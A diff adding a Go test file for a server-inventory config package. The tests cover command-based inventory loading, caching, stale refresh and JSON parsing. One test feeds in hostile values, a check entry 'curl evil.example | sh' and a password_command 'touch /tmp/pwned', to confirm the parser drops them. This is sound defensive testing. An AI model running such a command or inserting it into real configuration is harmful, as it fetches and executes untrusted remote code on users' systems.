@@ -0,0 +1,105 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"testing"
+)
+
+func TestCommandSource(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("uses sh")
+	}
+	m := newTestManager(t)
+
+	script := filepath.Join(m.HomeDir, DirName, "list-hosts.sh")
+	writeScript := func(body string) {
+		t.Helper()
+		if err := os.WriteFile(script, []byte("#!/bin/sh\n"+body), 0700); err != nil {
+			t.Fatal(err)
+		}
+	}
+	writeScript(`echo '{"servers": [{"alias": "app-1", "host": "10.2.0.1", "port": 2222, "env": ["A=1", "B=2"]}]}'`)
+	os.WriteFile(m.GetSourcesPath(), []byte("scripts {\n    inventory_command: ./list-hosts.sh\n}\n"), 0600)
+
+	// First load runs the command synchronously since nothing is cached
+	inv, err := m.LoadInventory()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(inv.Servers) != 1 || inv.Servers[0].Port != "2222" || len(inv.Servers[0].Env) != 2 {
+		t.Fatalf("unexpected servers: %+v (warnings %q)", inv.Servers, inv.Warnings)
+	}
+	if len(inv.Stale) != 0 {
+		t.Errorf("fresh output should not be stale: %q", inv.Stale)
+	}
+
+	// Later loads use the cache and report it stale without a refresh interval
+	writeScript(`echo 'broken' >&2; exit 2`)
+	inv, err = m.LoadInventory()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(inv.Servers) != 1 || len(inv.Stale) != 1 {
+		t.Fatalf("expected cached servers and a stale source, got %+v stale %q", inv.Servers, inv.Stale)
+	}
+
+	// A failing refresh surfaces stderr and keeps the last good output
+	warnings := m.RefreshSources(inv.Stale)
+	if len(warnings) != 1 || !strings.Contains(warnings[0], "broken") {
+		t.Errorf("expected stderr in warning, got %q", warnings)
+	}
+	if inv, _ = m.LoadInventory(); len(inv.Servers) != 1 {
+		t.Errorf("cache was lost after a failed refresh: %+v", inv.Servers)
+	}
+}
+
+func TestParseCommandInventoryErrors(t *testing.T) {
+	for _, input := range []string{
+		`not json`,
+		`{"servers": [{"host": "x"}]}`,
+		`{"servers": [{"alias": "a", "bogus": "x"}]}`,
+		`{"servers": [{"alias": "a", "host": {"nested": true}}]}`,
+	} {
+		if _, _, err := parseCommandInventory("s", []byte(input)); err == nil {
+			t.Errorf("expected error for %s", input)
+		}
+	}
+}
+
+func TestJSONScalar(t *testing.T) {
+	tests := []struct {
+		in   any
+		want string
+	}{
+		{"web", "web"},
+		{float64(2222), "2222"},
+		{true, "yes"},
+		{false, "no"},
+	}
+	for _, tt := range tests {
+		if got, err := jsonScalar(tt.in); err != nil || got != tt.want {
+			t.Errorf("jsonScalar(%v) = %q, %v, want %q", tt.in, got, err, tt.want)
+		}
+	}
+}
+
+func TestCommandInventoryDataOnly(t *testing.T) {
+	output := `{"servers": [{"alias": "app-1", "host": "10.2.0.1", "check": ["tcp 8443", "command curl evil.example | sh"]}],
+		"proxies": [{"alias": "corp", "host": "proxy", "type": "socks5", "password_command": "touch /tmp/pwned"}]}`
+	layer, skipped, err := parseCommandInventory("s", []byte(output))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if checks := layer.Servers[0].Checks; len(checks) != 1 || checks[0] != "tcp 8443" {
+		t.Errorf("checks %q, want only the tcp check", checks)
+	}
+	if p := layer.Proxies[0]; p.PasswordCommand != "" || p.Type != "socks5" {
+		t.Errorf("proxy %+v, want the password_command dropped", p)
+	}
+	if len(skipped) != 2 || skipped[0] != "app-1: check command curl evil.example | sh" || skipped[1] != "corp: password_command" {
+		t.Errorf("skipped %q", skipped)
+	}
+}